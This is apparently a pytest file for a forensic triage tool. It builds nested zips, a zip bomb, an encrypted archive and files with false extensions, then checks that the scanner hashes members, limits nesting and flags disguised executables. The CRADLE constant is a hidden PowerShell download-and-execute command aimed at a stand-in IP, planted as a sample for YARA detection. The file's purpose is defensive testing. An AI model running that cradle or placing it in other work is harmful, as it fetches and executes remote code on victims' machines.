"""Zip members, zip bombs and lying extensions, on archives made by the zip CLI."""

from __future__ import annotations

import hashlib
import shutil
import struct
import subprocess
import zlib
from pathlib import Path

import pytest

from cybertriage.analyzers.archive import container_limits
from cybertriage.analyzers.base import Settings
from cybertriage.evidence.containers import ContainerLimits
from tests.conftest import export, run_cli

CRADLE = "powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.9/a.ps1')\"\r\n"


def _png() -> bytes:
    """A valid 1x1 PNG, to be named as something it is not."""
    def chunk(kind: bytes, data: bytes) -> bytes:
        return struct.pack(">I", len(data)) + kind + data + struct.pack(">I", zlib.crc32(kind + data))

    header = struct.pack(">IIBBBBB", 1, 1, 8, 2, 0, 0, 0)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", zlib.compress(b"\0\0\0\0")) + chunk(b"IEND", b"")


def _zip(archive: Path, *members: Path, cwd: Path, password: str | None = None) -> None:
    args = ["zip", "-q", "-X"] + (["-P", password] if password else []) + [str(archive), *(m.name for m in members)]
    subprocess.run(args, cwd=cwd, check=True)


@pytest.fixture(scope="module")
def archive_case(corpus_dir: Path, tmp_path_factory: pytest.TempPathFactory) -> tuple[Path, Path]:
    work = tmp_path_factory.mktemp("zips")
    evidence = work / "evidence"
    evidence.mkdir()
    (work / "run.ps1").write_text(CRADLE)
    (work / "notes.txt").write_text("meeting at noon\n")
    _zip(evidence / "outer.zip", work / "run.ps1", work / "notes.txt", cwd=work)
    # nesting: level4.zip holds level3.zip holds level2.zip holds level1.zip holds run.ps1
    shutil.copy(work / "run.ps1", work / "deep.ps1")
    _zip(work / "level1.zip", work / "deep.ps1", cwd=work)
    for level in (2, 3, 4):
        _zip(work / f"level{level}.zip", work / f"level{level - 1}.zip", cwd=work)
    shutil.copy(work / "level4.zip", evidence / "nested.zip")
    with open(work / "zeros.bin", "wb") as handle:  # 200 MB of zeros compresses about 1000 to 1
        handle.truncate(200 * 1024 * 1024)
    _zip(evidence / "bomb.zip", work / "zeros.bin", cwd=work)
    _zip(evidence / "locked.zip", work / "run.ps1", cwd=work, password="infected")
    shutil.copy(corpus_dir / "pe" / "HelloWorld.exe", evidence / "holiday.jpg")
    shutil.copy(corpus_dir / "pe" / "HelloWorld.exe", evidence / "HelloWorld.exe")
    (evidence / "report.pdf").write_bytes(_png())
    case = work / "case"
    result = run_cli("scan", evidence, "--case", case, "--quiet")
    assert result.code == 0, result.stderr
    return case, evidence


def _rows(case: Path) -> dict[str, dict]:
    return {r["path"]: r for r in export(case, "files")}


def test_members_hash_like_unzip(archive_case) -> None:
    case, evidence = archive_case
    rows = _rows(case)
    for member in ("run.ps1", "notes.txt"):
        content = subprocess.run(["unzip", "-p", str(evidence / "outer.zip"), member],
                                 capture_output=True, check=True).stdout
        row = rows[f"/outer.zip!{member}"]
        assert row["sha256"] == hashlib.sha256(content).hexdigest()
        assert row["parent_id"] == rows["/outer.zip"]["id"]


def test_rules_fire_inside_archives(archive_case) -> None:
    case, _ = archive_case
    flagged = {(f["object"], f["rule"]) for f in export(case, "findings") if f["analyzer"] == "yara"}
    assert ("/outer.zip!run.ps1", "PowerShell_Download_Cradle") in flagged


def test_nesting_stops_at_the_depth_limit(archive_case) -> None:
    case, _ = archive_case
    paths = set(_rows(case))
    assert "/nested.zip!level3.zip!level2.zip!level1.zip" in paths  # depth 3: listed, not opened
    assert not any(p.endswith("deep.ps1") for p in paths)
    info = run_cli("info", "--case", case).stdout
    assert "archive nested too deep" in info


def test_zip_bomb_is_a_finding_not_an_extraction(archive_case) -> None:
    case, _ = archive_case
    bombs = [f for f in export(case, "findings") if f["rule"] == "zip-bomb"]
    assert [f["object"] for f in bombs] == ["/bomb.zip"]
    member = _rows(case)["/bomb.zip!zeros.bin"]
    assert member["sha256"] is None and "zip-bomb" in member["note"]


def test_encrypted_member_is_recorded(archive_case) -> None:
    member = _rows(archive_case[0])["/locked.zip!run.ps1"]
    assert member["sha256"] is None and member["note"] == "encrypted member"


def test_extension_mismatch(archive_case) -> None:
    case, evidence = archive_case
    mime = subprocess.run(["file", "-b", "--mime-type", str(evidence / "holiday.jpg")],
                          capture_output=True, text=True, check=True).stdout.strip()
    rows = _rows(case)
    assert rows["/holiday.jpg"]["mime"] == mime and rows["/holiday.jpg"]["ext_mismatch"]
    assert not rows["/HelloWorld.exe"]["ext_mismatch"]
    by_object = {(f["object"], f["rule"], f["severity"]) for f in export(case, "findings")}
    assert ("/holiday.jpg", "executable-disguised", "high") in by_object
    assert ("/report.pdf", "extension-mismatch", "low") in by_object
    assert not any(obj == "/HelloWorld.exe" for obj, _, _ in by_object)


def test_random_data_is_not_called_an_executable(tmp_path: Path) -> None:
    """libmagic guesses 'DOS executable (COM)' for some random data; that is no executable."""
    import random

    generator = random.Random(7)
    folder = tmp_path / "evidence"
    folder.mkdir()
    guessed = []
    for number in range(400):
        path = folder / f"blob{number}.dat"
        path.write_bytes(generator.randbytes(4096))
        mime = subprocess.run(["file", "-b", "--mime-type", str(path)], capture_output=True, text=True).stdout
        if mime.strip() == "application/x-dosexec":
            guessed.append(path.name)
    assert guessed, "some random blobs should fool libmagic (about 1 %)"
    case = tmp_path / "case"
    assert run_cli("scan", folder, "--case", case, "--quiet", "--no-yara").code == 0
    assert not [f for f in export(case, "findings") if f["analyzer"] == "filetype"]


def test_reading_back_applies_the_scan_s_archive_limits() -> None:
    """A case's objects are read back (case/objects.py) within ContainerLimits' defaults: the scan's own."""
    assert container_limits(Settings()) == ContainerLimits()
